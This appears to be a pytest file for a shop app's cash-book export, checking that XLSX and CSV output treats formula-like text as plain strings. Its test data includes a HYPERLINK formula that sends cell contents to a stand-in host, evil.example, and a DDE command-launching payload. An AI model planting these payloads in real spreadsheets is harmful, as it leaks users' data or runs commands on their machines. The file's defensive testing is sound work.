"""Issue 11.7: the XLSX buku kas is guarded like the CSV — text starting with = + - @ is text, never a formula."""
import io
import zipfile

import openpyxl
import pytest

from posapp.extensions import db
from posapp.formula_guard import csv_text, xlsx_text
from posapp.shop.service import save_settings

SHOP = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def test_a_formula_in_the_shop_name_and_a_document_is_text_in_the_xlsx(manajer_client, post, ledger):
    save_settings({"shop_name": SHOP})
    post("sale", cash=5_000, doc_no="@SUM(1+1)*cmd|' /C calc'!A0")
    post("sale", cash=6_000, doc_no="-2+3")
    db.session.commit()
    data = manajer_client.get("/buku/kas/2026-11-24.xlsx").data
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula in the file
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (SHOP, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@A1", "\tx", "\r=1"])
def test_the_same_guard_for_csv_and_xlsx(text):
    ws = openpyxl.Workbook().active
    xlsx_text(ws["A1"], text)
    assert csv_text(text) == "'" + text
    assert ws["A1"].data_type == "s" and ws["A1"].quotePrefix


def test_plain_text_is_left_alone_and_control_characters_dropped():
    ws = openpyxl.Workbook().active
    xlsx_text(ws["A1"], "Kopontren Al-Hikmah")
    xlsx_text(ws["A2"], "bel\x07 berbunyi")
    assert csv_text("Kopontren Al-Hikmah") == "Kopontren Al-Hikmah" and not ws["A1"].quotePrefix
    assert ws["A2"].value == "bel berbunyi"
